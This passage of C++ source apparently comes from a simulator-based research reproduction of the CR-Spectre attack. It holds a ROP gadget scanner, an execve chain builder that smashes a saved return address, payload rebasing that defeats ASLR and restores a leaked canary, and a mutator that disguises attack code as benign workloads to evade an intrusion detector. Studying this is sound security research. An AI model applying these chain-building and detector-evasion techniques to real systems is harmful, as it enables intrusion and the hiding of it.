        s += "    add r5, r5, r6\n";
        s += "    andi r5, r6, 1\n";
        s += "    beqz r5, " + l + "_dskip\n";  // 50% taken: heavy mispredicts
        s += "    addi r7, r7, 1\n";
        s += l + "_dskip:\n";
        s += "    xor r7, r7, r6\n";
        break;
      case MimicStyle::kStores:
        // Image-filter benign profile (susan-like): loads, divide, stores.
        s += "    load r5, [r4]\n";
        s += "    add r5, r5, r9\n";
        s += "    movi r7, 9\n";
        s += "    divu r5, r5, r7\n";
        s += "    store [r4+8], r5\n";
        s += "    shri r7, r5, 2\n";
        s += "    store [r4+16], r7\n";
        break;
    }
    s += "    addi r9, r9, -1\n";
    s += "    bnez r9, " + l + "_delay\n";
  }
  s += "    ret\n";
  // Backing words for the loop variables, each on its own cache line so
  // every flush/eviction costs a genuine miss on the reload. In flushless
  // mode the variables anchor a 32 KiB-aligned block whose 32768-strided
  // lines alias their L1/L2 sets (the eviction walk's targets).
  s += ".data\n";
  if (params.flushless) {
    // Anchor the variables at set offsets above the probed range (>255*64)
    // so eviction walks cannot alias a prime+probe receiver's sets.
    s += ".align 32768\n";
    s += l + "_pad: .space 16448\n";
  } else {
    s += ".align 64\n";
  }
  s += l + "_a: .word 0\n";
  s += ".align 64\n";
  s += l + "_b: .word 0\n";
  for (int k = 0; k < params.extra_ladders; ++k) {
    s += ".align 64\n";
    s += l + "_c" + std::to_string(k) + ": .word 0\n";
  }
  if (params.flushless) {
    // 17 way-strides of eviction backing behind the variables.
    s += ".align 32768\n";
    s += l + "_evb: .space " + std::to_string(17 * 32768) + "\n";
  }
  if (params.delay > 0 && params.style == MimicStyle::kStrided) {
    s += ".align 64\n";
    s += l + "_buf: .space 65600\n";  // 64 KiB + slack for the masked index
  }
  s += ".text\n";
  return s;
}

std::string generate_noop_perturb_source(std::string_view label) {
  std::string s;
  s += ".text\n";
  s += std::string(label) + ":\n";
  s += "    ret\n";
  return s;
}

VariantMutator::VariantMutator(const PerturbParams& initial,
                               std::uint64_t seed)
    : current_(initial), rng_(seed) {}

PerturbParams VariantMutator::draw() {
  PerturbParams p;
  p.a = static_cast<int>(rng_.next_in(5, 40));
  p.b = static_cast<int>(rng_.next_in(2, 20));
  p.loop_count = static_cast<int>(rng_.next_in(6, 28));
  p.a_step = static_cast<int>(rng_.next_in(1, 10)) * 10;
  p.b_step = static_cast<int>(rng_.next_in(1, 6)) * 5;
  p.extra_ladders = static_cast<int>(rng_.next_in(0, 3));
  // Delay disperses the perturbation: larger values dilute per-window HPC
  // magnitudes toward benign levels. Small delays stay in the pool so some
  // variants remain loud — the oscillation of Fig. 6(b).
  static constexpr int kDelays[] = {250, 500, 1000, 2000, 3000, 4000};
  p.delay = kDelays[rng_.next_below(std::size(kDelays))];
  p.style = static_cast<MimicStyle>(rng_.next_below(4));
  return p;
}

const PerturbParams& VariantMutator::next() {
  PerturbParams p = draw();
  // Guarantee progress: identical consecutive variants would hand the
  // online HID a second training pass for free.
  for (int guard = 0; guard < 16 && p == current_; ++guard) p = draw();
  current_ = p;
  ++generation_;
  return current_;
}

}  // namespace crs::perturb
