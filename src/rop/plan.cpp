#include "rop/plan.hpp"

#include "support/error.hpp"

namespace crs::rop {

InjectionPlan plan_injection(const sim::Program& host, ReconSpec recon_spec,
                             const std::string& attack_binary_path) {
  if (recon_spec.benign_args.empty()) {
    recon_spec.benign_args = {"host", "hello"};
  }
  CRS_ENSURE(recon_spec.benign_args.size() >= 2,
             "recon needs argv[0] and a benign argv[1]");

  InjectionPlan plan;
  plan.gadgets = GadgetScanner().scan(host);
  ChainBuilder builder(plan.gadgets);
  CRS_ENSURE(builder.can_build_execve(),
             "host lacks the gadgets for an execve chain");

  // Pass 1: learn the frame geometry with any benign input.
  const FrameRecon probe = recon_vulnerable_frame(host, recon_spec);

  // Pass 2: re-measure with an input of the payload's exact length, so the
  // buffer address matches the attack run.
  const std::size_t payload_len =
      probe.filler_length + 8 * ChainBuilder::kExecveChainWords;
  ReconSpec matched = recon_spec;
  matched.benign_args[1] = std::string(payload_len, 'A');
  plan.frame = recon_vulnerable_frame(host, matched);
  CRS_ENSURE(plan.frame.filler_length == probe.filler_length,
             "frame layout changed between recon passes");

  ExecveChainSpec spec;
  spec.binary_path = attack_binary_path;
  spec.buffer_address = plan.frame.buffer_address;
  spec.filler_length = plan.frame.filler_length;
  spec.resume_address = plan.frame.resume_address;
  plan.payload = builder.build_execve_payload(spec);
  return plan;
}

}  // namespace crs::rop
