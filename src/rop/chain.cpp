#include "rop/chain.hpp"

#include "sim/kernel.hpp"
#include "support/error.hpp"

namespace crs::rop {

namespace {

void append_u64(std::vector<std::uint8_t>& bytes, std::uint64_t v) {
  for (int i = 0; i < 8; ++i)
    bytes.push_back(static_cast<std::uint8_t>(v >> (8 * i)));
}

}  // namespace

ChainBuilder::ChainBuilder(std::span<const Gadget> gadgets)
    : gadgets_(gadgets) {}

bool ChainBuilder::can_build_execve() const {
  return find_pop(gadgets_, 0) != nullptr && find_pop(gadgets_, 1) != nullptr &&
         find_syscall(gadgets_) != nullptr;
}

OverflowPayload ChainBuilder::build_execve_payload(
    const ExecveChainSpec& spec) const {
  const Gadget* pop_r1 = find_pop(gadgets_, 1);
  const Gadget* pop_r0 = find_pop(gadgets_, 0);
  const Gadget* sys = find_syscall(gadgets_);
  CRS_ENSURE(pop_r1 != nullptr, "no `pop r1; ret` gadget in the catalogue");
  CRS_ENSURE(pop_r0 != nullptr, "no `pop r0; ret` gadget in the catalogue");
  CRS_ENSURE(sys != nullptr, "no `syscall; ret` gadget in the catalogue");
  CRS_ENSURE(spec.filler_length >= spec.binary_path.size() + 1,
             "filler too small to embed the path string");

  OverflowPayload payload;
  payload.path_offset = 0;
  payload.pop_r1_gadget = pop_r1->address;
  payload.pop_r0_gadget = pop_r0->address;
  payload.syscall_gadget = sys->address;

  // Filler with the NUL-terminated path embedded at the front. The rest is
  // the paper's 'D' padding.
  payload.bytes.assign(spec.binary_path.begin(), spec.binary_path.end());
  payload.bytes.push_back(0);
  payload.bytes.resize(spec.filler_length, 'D');

  // The chain proper.
  append_u64(payload.bytes, pop_r1->address);
  append_u64(payload.bytes, spec.buffer_address + payload.path_offset);
  append_u64(payload.bytes, pop_r0->address);
  append_u64(payload.bytes, sim::kSysExecve);
  append_u64(payload.bytes, sys->address);
  append_u64(payload.bytes, spec.resume_address);
  return payload;
}

}  // namespace crs::rop
