#include "rop/chain.hpp"

#include "sim/kernel.hpp"
#include "support/error.hpp"

namespace crs::rop {

namespace {

void append_u64(std::vector<std::uint8_t>& bytes, std::uint64_t v) {
  for (int i = 0; i < 8; ++i)
    bytes.push_back(static_cast<std::uint8_t>(v >> (8 * i)));
}

std::uint64_t read_u64_at(const std::vector<std::uint8_t>& bytes,
                          std::size_t off) {
  std::uint64_t v = 0;
  for (int i = 7; i >= 0; --i)
    v = (v << 8) | bytes[off + static_cast<std::size_t>(i)];
  return v;
}

void write_u64_at(std::vector<std::uint8_t>& bytes, std::size_t off,
                  std::uint64_t v) {
  for (int i = 0; i < 8; ++i)
    bytes[off + static_cast<std::size_t>(i)] =
        static_cast<std::uint8_t>(v >> (8 * i));
}

}  // namespace

OverflowPayload patch_payload_for_leak(const OverflowPayload& payload,
                                       std::uint64_t filler_length,
                                       const LeakAdjust& adjust) {
  const std::size_t filler = static_cast<std::size_t>(filler_length);
  CRS_ENSURE(payload.bytes.size() ==
                 filler + ChainBuilder::kExecveChainWords * 8,
             "patch_payload_for_leak: payload/filler length mismatch");
  CRS_ENSURE(!adjust.patch_canary || filler >= 8 + payload.path_offset + 1,
             "patch_payload_for_leak: no room for the canary slot");

  OverflowPayload out = payload;
  // Chain words behind the filler: [0] pop r1, [1] buffer ptr, [2] pop r0,
  // [3] SYS_EXECVE (immune), [4] syscall, [5] resume.
  const auto shift = [&](std::size_t word, std::uint64_t delta) {
    const std::size_t off = filler + word * 8;
    write_u64_at(out.bytes, off, read_u64_at(out.bytes, off) + delta);
  };
  shift(0, adjust.image_delta);
  shift(1, adjust.stack_delta);
  shift(2, adjust.image_delta);
  shift(4, adjust.image_delta);
  shift(5, adjust.image_delta);
  out.pop_r1_gadget = payload.pop_r1_gadget + adjust.image_delta;
  out.pop_r0_gadget = payload.pop_r0_gadget + adjust.image_delta;
  out.syscall_gadget = payload.syscall_gadget + adjust.image_delta;

  // The canary scaffold keeps its cookie copy in the 8 bytes right below
  // the saved return address; restoring the leaked value there keeps the
  // epilogue check green while the chain overwrites the slot above it.
  if (adjust.patch_canary) write_u64_at(out.bytes, filler - 8, adjust.canary);
  return out;
}

ChainBuilder::ChainBuilder(std::span<const Gadget> gadgets)
    : gadgets_(gadgets) {}

bool ChainBuilder::can_build_execve() const {
  return find_pop(gadgets_, 0) != nullptr && find_pop(gadgets_, 1) != nullptr &&
         find_syscall(gadgets_) != nullptr;
}

OverflowPayload ChainBuilder::build_execve_payload(
    const ExecveChainSpec& spec) const {
  const Gadget* pop_r1 = find_pop(gadgets_, 1);
  const Gadget* pop_r0 = find_pop(gadgets_, 0);
  const Gadget* sys = find_syscall(gadgets_);
  CRS_ENSURE(pop_r1 != nullptr, "no `pop r1; ret` gadget in the catalogue");
  CRS_ENSURE(pop_r0 != nullptr, "no `pop r0; ret` gadget in the catalogue");
  CRS_ENSURE(sys != nullptr, "no `syscall; ret` gadget in the catalogue");
  CRS_ENSURE(spec.filler_length >= spec.binary_path.size() + 1,
             "filler too small to embed the path string");

  OverflowPayload payload;
  payload.path_offset = 0;
  payload.pop_r1_gadget = pop_r1->address;
  payload.pop_r0_gadget = pop_r0->address;
  payload.syscall_gadget = sys->address;

  // Filler with the NUL-terminated path embedded at the front. The rest is
  // the paper's 'D' padding.
  payload.bytes.assign(spec.binary_path.begin(), spec.binary_path.end());
  payload.bytes.push_back(0);
  payload.bytes.resize(spec.filler_length, 'D');

  // The chain proper.
  append_u64(payload.bytes, pop_r1->address);
  append_u64(payload.bytes, spec.buffer_address + payload.path_offset);
  append_u64(payload.bytes, pop_r0->address);
  append_u64(payload.bytes, sim::kSysExecve);
  append_u64(payload.bytes, sys->address);
  append_u64(payload.bytes, spec.resume_address);
  return payload;
}

}  // namespace crs::rop
