#include "rop/recon.hpp"

#include "support/error.hpp"

namespace crs::rop {

FrameRecon recon_vulnerable_frame(const sim::Program& program,
                                  const ReconSpec& spec) {
  sim::Machine machine;
  sim::Kernel kernel(machine);
  kernel.register_binary(spec.path, program);
  kernel.start_with_strings(spec.path, spec.benign_args);

  FrameRecon out;
  out.start_sp = machine.cpu().sp();

  const std::uint64_t entry_pc =
      kernel.resolved_symbol(spec.path, spec.entry_label);
  const std::uint64_t body_pc =
      kernel.resolved_symbol(spec.path, spec.body_label);

  bool saw_entry = false;
  bool saw_body = false;
  auto& cpu = machine.cpu();
  for (std::uint64_t steps = 0;
       steps < spec.max_instructions && !cpu.halted(); ++steps) {
    if (!saw_entry && cpu.pc() == entry_pc) {
      saw_entry = true;
      out.return_slot = cpu.sp();
      out.resume_address = machine.memory().read_u64(cpu.sp());
    }
    if (saw_entry && !saw_body && cpu.pc() == body_pc) {
      saw_body = true;
      out.buffer_address = cpu.sp();
      break;
    }
    cpu.step();
  }
  CRS_ENSURE(saw_entry, "recon: never reached '" + spec.entry_label + "'");
  CRS_ENSURE(saw_body, "recon: never reached '" + spec.body_label + "'");
  CRS_ENSURE(out.return_slot > out.buffer_address,
             "recon: frame layout unexpected");
  out.filler_length = out.return_slot - out.buffer_address;
  return out;
}

}  // namespace crs::rop
