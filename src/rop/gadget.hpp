// ROP gadget discovery.
//
// Mirrors the paper's methodology (§II-C): "We load the compiled victim
// binary in the Linux Debugger (GDB) to search for all instructions that
// end in a ret instruction." The scanner walks the executable segments of a
// program image, decodes instruction sequences that end in RET, and
// catalogues them by effect so the chain builder can select the pieces of
// an execve chain.
//
// Divergence from x86 noted in DESIGN.md: instructions are fixed-width and
// decode is 8-byte aligned, so there are no "unintended" misaligned
// gadgets; the gadget pool comes from genuine function tails, primarily the
// runtime library's register-restore helpers (the libc analogue).
#pragma once

#include <cstdint>
#include <optional>
#include <span>
#include <string>
#include <vector>

#include "isa/isa.hpp"
#include "sim/program.hpp"

namespace crs::rop {

enum class GadgetKind {
  kRet,      ///< bare `ret`
  kPopReg,   ///< `pop rX; ret`
  kSyscall,  ///< `syscall; ret`
  kMove,     ///< `mov rX, rY; ret`
  kArith,    ///< single ALU op then `ret`
  kOther,    ///< any other non-control-flow sequence ending in `ret`
};

struct Gadget {
  std::uint64_t address = 0;  ///< link-time address of the first instruction
  std::vector<isa::Instruction> instructions;  ///< includes the final ret
  GadgetKind kind = GadgetKind::kOther;
  int pop_register = -1;  ///< destination register for kPopReg

  /// e.g. "0x10208: pop r1; ret"
  std::string describe() const;
};

struct ScanOptions {
  /// Maximum instructions per gadget including the final ret.
  std::size_t max_gadget_length = 4;
};

class GadgetScanner {
 public:
  explicit GadgetScanner(const ScanOptions& options = {});

  /// Scans every executable segment of the image (link-time addresses).
  std::vector<Gadget> scan(const sim::Program& program) const;

  /// Scans raw bytes that will live at `base_address`.
  std::vector<Gadget> scan_bytes(std::span<const std::uint8_t> bytes,
                                 std::uint64_t base_address) const;

 private:
  ScanOptions options_;
};

/// First `pop rN; ret` gadget for register `reg`, or nullptr.
const Gadget* find_pop(std::span<const Gadget> gadgets, int reg);

/// First `syscall; ret` gadget, or nullptr.
const Gadget* find_syscall(std::span<const Gadget> gadgets);

/// Bit r set when the pool has a `pop rN; ret` gadget for register r — the
/// one-call form of asking find_pop for every register (the miner's
/// CR-Spectre drivability check).
std::uint32_t pop_register_mask(std::span<const Gadget> gadgets);

/// Human-readable catalogue (one gadget per line).
std::string describe_catalog(std::span<const Gadget> gadgets);

}  // namespace crs::rop
