#include "rop/gadget.hpp"

#include "support/strings.hpp"

namespace crs::rop {

namespace {

using isa::Instruction;
using isa::Opcode;
using isa::OpClass;

GadgetKind classify(const std::vector<Instruction>& instrs, int& pop_reg) {
  pop_reg = -1;
  if (instrs.size() == 1) return GadgetKind::kRet;
  if (instrs.size() == 2) {
    const Instruction& head = instrs.front();
    switch (head.op) {
      case Opcode::kPop:
        pop_reg = head.rd;
        return GadgetKind::kPopReg;
      case Opcode::kSyscall:
        return GadgetKind::kSyscall;
      case Opcode::kMov:
        return GadgetKind::kMove;
      default:
        if (isa::op_class(head.op) == OpClass::kAlu) return GadgetKind::kArith;
        return GadgetKind::kOther;
    }
  }
  return GadgetKind::kOther;
}

/// A gadget body may not contain control flow before the terminating ret
/// (a chain could not step over it), and HALT would end the process.
bool usable_body_instruction(const Instruction& instr) {
  if (isa::is_control_flow(instr.op)) return false;
  if (instr.op == Opcode::kHalt) return false;
  return true;
}

}  // namespace

std::string Gadget::describe() const {
  std::string out = hex(address) + ": ";
  for (std::size_t i = 0; i < instructions.size(); ++i) {
    if (i > 0) out += "; ";
    out += isa::disassemble(instructions[i]);
  }
  return out;
}

GadgetScanner::GadgetScanner(const ScanOptions& options) : options_(options) {}

std::vector<Gadget> GadgetScanner::scan_bytes(
    std::span<const std::uint8_t> bytes, std::uint64_t base_address) const {
  std::vector<Gadget> out;
  const std::size_t count = bytes.size() / isa::kInstructionSize;

  // Decode the whole segment once.
  std::vector<std::optional<Instruction>> decoded(count);
  for (std::size_t i = 0; i < count; ++i) {
    decoded[i] = isa::decode(bytes.subspan(i * isa::kInstructionSize,
                                           isa::kInstructionSize));
  }

  for (std::size_t i = 0; i < count; ++i) {
    if (!decoded[i].has_value() || decoded[i]->op != Opcode::kRet) continue;
    // Emit every suffix ending at this ret, shortest first.
    for (std::size_t len = 1;
         len <= options_.max_gadget_length && len <= i + 1; ++len) {
      const std::size_t start = i + 1 - len;
      bool ok = true;
      for (std::size_t k = start; k < i && ok; ++k) {
        ok = decoded[k].has_value() && usable_body_instruction(*decoded[k]);
      }
      if (!ok) break;  // longer suffixes include the same bad instruction
      Gadget g;
      g.address = base_address + start * isa::kInstructionSize;
      for (std::size_t k = start; k <= i; ++k) g.instructions.push_back(*decoded[k]);
      g.kind = classify(g.instructions, g.pop_register);
      out.push_back(std::move(g));
    }
  }
  return out;
}

std::vector<Gadget> GadgetScanner::scan(const sim::Program& program) const {
  std::vector<Gadget> out;
  for (const auto& seg : program.segments) {
    if ((seg.perm & sim::kPermExec) == 0) continue;
    auto gadgets = scan_bytes(seg.bytes, seg.addr);
    out.insert(out.end(), gadgets.begin(), gadgets.end());
  }
  return out;
}

const Gadget* find_pop(std::span<const Gadget> gadgets, int reg) {
  for (const auto& g : gadgets) {
    if (g.kind == GadgetKind::kPopReg && g.pop_register == reg) return &g;
  }
  return nullptr;
}

const Gadget* find_syscall(std::span<const Gadget> gadgets) {
  for (const auto& g : gadgets) {
    if (g.kind == GadgetKind::kSyscall) return &g;
  }
  return nullptr;
}

std::uint32_t pop_register_mask(std::span<const Gadget> gadgets) {
  std::uint32_t mask = 0;
  for (const auto& g : gadgets) {
    if (g.kind == GadgetKind::kPopReg && g.pop_register >= 0 &&
        g.pop_register < 32) {
      mask |= 1u << g.pop_register;
    }
  }
  return mask;
}

std::string describe_catalog(std::span<const Gadget> gadgets) {
  std::string out;
  for (const auto& g : gadgets) {
    out += g.describe();
    out += '\n';
  }
  return out;
}

}  // namespace crs::rop
