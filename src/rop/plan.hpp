// The adversary's full offline phase in one call: gadget harvesting, frame
// reconnaissance, and payload construction.
//
// The subtlety encapsulated here: the host's stack layout depends on the
// *length* of argv[1] (the kernel marshals the argument bytes above the
// initial stack pointer), so the recon pass must probe with an input of the
// same length the real payload will have. plan_injection therefore probes
// twice — once to learn the filler length, once more with a length-matched
// dummy input — before emitting the payload against the final addresses.
#pragma once

#include <string>

#include "rop/chain.hpp"
#include "rop/gadget.hpp"
#include "rop/recon.hpp"
#include "sim/program.hpp"

namespace crs::rop {

struct InjectionPlan {
  std::vector<Gadget> gadgets;  ///< full catalogue (for reporting)
  FrameRecon frame;             ///< length-matched frame measurements
  OverflowPayload payload;      ///< ready to pass as argv[1]
};

/// Plans a CR-Spectre injection against `host`: the payload execve's
/// `attack_binary_path` and resumes the host afterwards. `recon_spec.path`
/// must name the host; benign_args defaults to {"host", "hello"} when empty.
InjectionPlan plan_injection(const sim::Program& host,
                             ReconSpec recon_spec,
                             const std::string& attack_binary_path);

}  // namespace crs::rop
