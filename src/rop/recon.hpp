// Reconnaissance of the vulnerable stack frame.
//
// The paper's authors inspected the victim in GDB to learn the buffer
// layout and gadget addresses. This module is the equivalent: it runs the
// host once with a benign input under single-step instrumentation
// ("breakpoints" at the vulnerable function's entry and post-prologue
// labels) and measures
//   - the saved-return-address slot (sp at function entry),
//   - the buffer start (sp after the prologue),
//   - the legitimate resume address (the value in the return slot),
// from which the payload's filler length follows. The run happens on a
// scratch machine; nothing leaks into the measured experiment.
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "sim/kernel.hpp"
#include "sim/program.hpp"

namespace crs::rop {

struct FrameRecon {
  std::uint64_t buffer_address = 0;  ///< where the payload will be copied
  std::uint64_t return_slot = 0;     ///< address of the saved return address
  std::uint64_t resume_address = 0;  ///< original value of the return slot
  std::uint64_t filler_length = 0;   ///< return_slot - buffer_address
  /// Program-entry sp of the recon run (argv lengths marshalled, 16-aligned).
  /// The leak stage rebases stack addresses as (leaked sp − start_sp): with
  /// length-matched argv the whole frame shifts rigidly under stack ASLR.
  std::uint64_t start_sp = 0;
};

struct ReconSpec {
  std::string path;                 ///< registered binary to run
  std::string entry_label = "read_input";
  std::string body_label = "read_input_body";
  std::vector<std::string> benign_args;  ///< e.g. {"hello"}
  std::uint64_t max_instructions = 10'000'000;
};

/// Runs the recon on a fresh scratch machine built from `program`
/// (registered under spec.path, no ASLR — the setting the attack assumes).
/// Throws crs::Error when either breakpoint is never reached.
FrameRecon recon_vulnerable_frame(const sim::Program& program,
                                  const ReconSpec& spec);

}  // namespace crs::rop
