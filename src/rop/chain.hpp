// ROP chain construction: paper Listing 1.
//
// The payload the adversary passes as the host's input argument:
//
//   [ 0 .. filler )              filler bytes; the execve path string is
//                                embedded at offset 0 (it must live at a
//                                known address — the buffer itself)
//   [ filler + 0 ]               &(pop r1; ret)     ← overwrites saved ret
//   [ filler + 8 ]               buffer_address     (pointer to the path)
//   [ filler + 16 ]              &(pop r0; ret)
//   [ filler + 24 ]              SYS_EXECVE
//   [ filler + 32 ]              &(syscall; ret)
//   [ filler + 40 ]              resume address     (host continues here)
//
// When the vulnerable function returns, control flows through the chain:
// r1 ← path pointer, r0 ← SYS_EXECVE, syscall spawns the CR-Spectre binary
// under the host's identity, and the trailing `ret` of the syscall gadget
// pops the resume address so the host completes its work (paper Fig. 1).
#pragma once

#include <cstdint>
#include <span>
#include <string>
#include <vector>

#include "rop/gadget.hpp"

namespace crs::rop {

struct ExecveChainSpec {
  /// Registry path of the binary to spawn (e.g. "/bin/cr_spectre").
  std::string binary_path;
  /// Where the host should continue after the injected binary exits.
  std::uint64_t resume_address = 0;
  /// Runtime address the host will copy the payload to (from recon).
  std::uint64_t buffer_address = 0;
  /// Bytes between the buffer start and the saved return address
  /// (from recon; the paper's 108-byte filler).
  std::uint64_t filler_length = 0;
};

struct OverflowPayload {
  std::vector<std::uint8_t> bytes;
  std::uint64_t path_offset = 0;  ///< offset of the path string in `bytes`

  /// Gadget addresses used, for reporting/tests.
  std::uint64_t pop_r1_gadget = 0;
  std::uint64_t pop_r0_gadget = 0;
  std::uint64_t syscall_gadget = 0;
};

/// What the speculative leak stage learned, expressed as deltas against the
/// recon run's (no-ASLR) layout plus the raw canary value.
struct LeakAdjust {
  std::uint64_t image_delta = 0;  ///< leaked load base − link-time base
  std::uint64_t stack_delta = 0;  ///< leaked entry sp − recon start_sp
  bool patch_canary = false;      ///< rewrite the in-frame canary slot
  std::uint64_t canary = 0;       ///< leaked canary value
};

/// Rebases a payload planned against the recon layout onto the leaked one:
/// the three gadget words and the resume word shift by image_delta, the
/// buffer-pointer word by stack_delta, and (when patch_canary) the 8 bytes
/// directly below the return slot are set to the leaked canary so the
/// epilogue's check passes even though the frame was smashed through.
/// `filler_length` is the planning-time filler (chain words start there).
OverflowPayload patch_payload_for_leak(const OverflowPayload& payload,
                                       std::uint64_t filler_length,
                                       const LeakAdjust& adjust);

class ChainBuilder {
 public:
  /// Words appended behind the filler by build_execve_payload.
  static constexpr std::size_t kExecveChainWords = 6;

  /// Keeps a reference to the catalogue; it must outlive the builder.
  explicit ChainBuilder(std::span<const Gadget> gadgets);

  /// True when the catalogue contains every gadget the execve chain needs.
  bool can_build_execve() const;

  /// Builds the Listing-1 payload. Throws crs::Error when a required
  /// gadget is missing or the filler cannot hold the path string.
  OverflowPayload build_execve_payload(const ExecveChainSpec& spec) const;

 private:
  std::span<const Gadget> gadgets_;
};

}  // namespace crs::rop
