#include "sim/snapshot.hpp"

#include <cstring>
#include <mutex>
#include <unordered_map>

#include "support/error.hpp"
#include "support/memo.hpp"

namespace crs::sim {

/// Sole holder of friend access into the sim privates the checkpoint needs:
/// Memory's page store, CacheLevel's MRU memo, and the Cpu counters that
/// survive Cpu::reset. Everything else restores through public copy
/// assignment of the (value-semantic) sub-objects.
class SnapshotAccess {
 public:
  static MachineSnapshot capture(const Machine& machine) {
    MachineSnapshot snap;
    capture_memory(machine.memory(), snap);
    snap.hierarchy_.emplace(machine.hierarchy());
    scrub_mru(*snap.hierarchy_);
    snap.predictor_.emplace(machine.predictor());
    snap.pmu_ = machine.pmu();
    capture_cpu(machine.cpu(), snap.cpu_);
    return snap;
  }

  static std::shared_ptr<const MachineBaseline> freeze(const Machine& m) {
    auto base = std::make_shared<MachineBaseline>();
    base->config_ = m.config();
    base->image_ = m.memory().freeze();
    base->state_ = capture(m);
    return base;
  }

  /// Second half of the fork constructor: the members are already
  /// constructed (memory from the shared image, the rest fresh from the
  /// config); copy the frozen micro-architectural and CPU state over them,
  /// exactly as restore() does minus the memory diff (the image IS the
  /// memory state).
  static void fork_init(Machine& machine, const MachineBaseline& base) {
    machine.hierarchy() = *base.state_.hierarchy_;
    scrub_mru(machine.hierarchy());
    machine.predictor() = *base.state_.predictor_;
    machine.pmu() = base.state_.pmu_;
    restore_cpu(machine.cpu(), base.state_.cpu_);
  }

  static void restore(Machine& machine, MachineSnapshot& snap) {
    CRS_ENSURE(snap.hierarchy_.has_value(),
               "restore from a default-constructed MachineSnapshot");
    restore_memory(machine.memory(), snap);
    // Whole-object copy-back: cache contents + LRU stamps + partition state
    // + per-level stats, then the predictor tables and PMU counters. The
    // copied MRU memo would point into the snapshot's dead storage, so it
    // is scrubbed (the next access repopulates it through the search path).
    machine.hierarchy() = *snap.hierarchy_;
    scrub_mru(machine.hierarchy());
    machine.predictor() = *snap.predictor_;
    machine.pmu() = snap.pmu_;
    restore_cpu(machine.cpu(), snap.cpu_);
    ++snap.restore_count_;
  }

 private:
  static void capture_memory(const Memory& mem, MachineSnapshot& snap) {
    // Versions start at 1 and every write/permission change bumps them, so
    // version 1 means byte-for-byte pristine (zeroed, kPermNone): only
    // touched pages need storing. The usual pre-start capture of a fresh
    // machine stores nothing at all.
    snap.baseline_ = mem.versions_;
    for (std::uint64_t p = 0; p < mem.versions_.size(); ++p) {
      if (mem.versions_[p] == 1) continue;
      MachineSnapshot::PageImage img;
      img.index = p;
      img.perm = mem.perms_[p];
      std::memcpy(img.bytes.data(), mem.read_frames_[p], Memory::kPageSize);
      snap.pages_.push_back(std::move(img));
    }
  }

  static void restore_memory(Memory& mem, MachineSnapshot& snap) {
    CRS_ENSURE(snap.baseline_.size() == mem.versions_.size(),
               "snapshot taken from a differently-sized machine");
    std::size_t restored = 0;
    std::size_t cursor = 0;  // pages_ is sorted by index; walk it once
    for (std::uint64_t p = 0; p < mem.versions_.size(); ++p) {
      if (mem.versions_[p] == snap.baseline_[p]) continue;  // clean page
      while (cursor < snap.pages_.size() && snap.pages_[cursor].index < p) {
        ++cursor;
      }
      // frame_for_write promotes shared COW pages — a restore is a write.
      std::uint8_t* page = mem.frame_for_write(p);
      if (cursor < snap.pages_.size() && snap.pages_[cursor].index == p) {
        std::memcpy(page, snap.pages_[cursor].bytes.data(), Memory::kPageSize);
        mem.perms_[p] = snap.pages_[cursor].perm;
      } else {
        std::memset(page, 0, Memory::kPageSize);
        mem.perms_[p] = static_cast<std::uint8_t>(kPermNone);
      }
      // Bump — never roll back. The decode cache validates slots with a
      // version equality compare; advancing monotonically guarantees no
      // slot decoded from the overwritten bytes can match the restored
      // page (see the header invariant).
      ++mem.versions_[p];
      snap.baseline_[p] = mem.versions_[p];
      ++restored;
    }
    snap.last_restored_pages_ = restored;
  }

  static void scrub_mru(MemoryHierarchy& hierarchy) {
    for (CacheLevel* level :
         {&hierarchy.l1d_, &hierarchy.l1i_, &hierarchy.l2_}) {
      level->mru_line_ = ~0ull;
      level->mru_way_ = nullptr;
    }
  }

  static void capture_cpu(const Cpu& cpu, MachineSnapshot::CpuImage& img) {
    std::memcpy(img.regs, cpu.regs_, sizeof(img.regs));
    std::memcpy(img.reg_ready, cpu.reg_ready_, sizeof(img.reg_ready));
    img.pc = cpu.pc_;
    img.cycle = cpu.cycle_;
    img.retired = cpu.retired_;
    img.spec_episodes = cpu.spec_episodes_;
    img.mstats = cpu.mstats_;
    img.halted = cpu.halted_;
    img.fault = cpu.fault_;
  }

  static void restore_cpu(Cpu& cpu, const MachineSnapshot::CpuImage& img) {
    // The decode cache is deliberately NOT touched: page-version bumps
    // already invalidate slots for every restored page, and slots for
    // clean pages stay warm across attempts (pure speed, never visible).
    std::memcpy(cpu.regs_, img.regs, sizeof(img.regs));
    std::memcpy(cpu.reg_ready_, img.reg_ready, sizeof(img.reg_ready));
    cpu.pc_ = img.pc;
    cpu.cycle_ = img.cycle;
    cpu.retired_ = img.retired;
    cpu.spec_episodes_ = img.spec_episodes;
    cpu.mstats_ = img.mstats;
    cpu.halted_ = img.halted;
    cpu.fault_ = img.fault;
  }
};

MachineSnapshot Machine::snapshot() const {
  return SnapshotAccess::capture(*this);
}

void Machine::restore(MachineSnapshot& snap) {
  SnapshotAccess::restore(*this, snap);
}

Machine::Machine(const MachineBaseline& base)
    : config_(base.config()),
      memory_(base.image()),
      hierarchy_(config_.hierarchy),
      predictor_(config_.predictor),
      pmu_(),
      cpu_(memory_, hierarchy_, predictor_, pmu_, config_.cpu) {
  SnapshotAccess::fork_init(*this, base);
}

std::shared_ptr<const MachineBaseline> Machine::freeze() const {
  return SnapshotAccess::freeze(*this);
}

std::shared_ptr<const MachineBaseline> shared_baseline(
    const MachineConfig& config) {
  static std::mutex mutex;
  static std::unordered_map<std::uint64_t,
                            std::shared_ptr<const MachineBaseline>>
      registry;
  const std::uint64_t key = hash_machine_config(config);
  std::lock_guard<std::mutex> lock(mutex);
  const auto it = registry.find(key);
  if (it != registry.end()) return it->second;
  // One full build per distinct config for the process lifetime; every
  // replica after this is an O(metadata) fork.
  const Machine pristine(config);
  auto base = pristine.freeze();
  registry.emplace(key, base);
  return base;
}

void Kernel::reset_for_attempt(std::uint64_t seed) {
  // Pair with Machine::restore to make a reused machine+kernel behave like
  // freshly-constructed ones: the RNG restarts exactly where a new
  // Kernel(machine, {.seed = seed}) would, the mitigation counters zero,
  // and stale ward locks are forgotten (the machine restore already
  // reinstated the page permissions they recorded). Everything else that is
  // per-run — output, exit code, load tables, stack carving — is reset by
  // start().
  rng_ = Rng(seed);
  kstats_ = {};
  hstats_ = {};
  heap_bump_ = config_.heap_base;
  heap_chunks_.clear();
  ward_locks_.clear();
}

Machine& MachinePool::acquire(const MachineConfig& config) {
  if (cow_enabled()) {
    return fork_from(shared_baseline(config));
  }
  return acquire_impl(config, nullptr);
}

Machine& MachinePool::fork_from(
    const std::shared_ptr<const MachineBaseline>& base) {
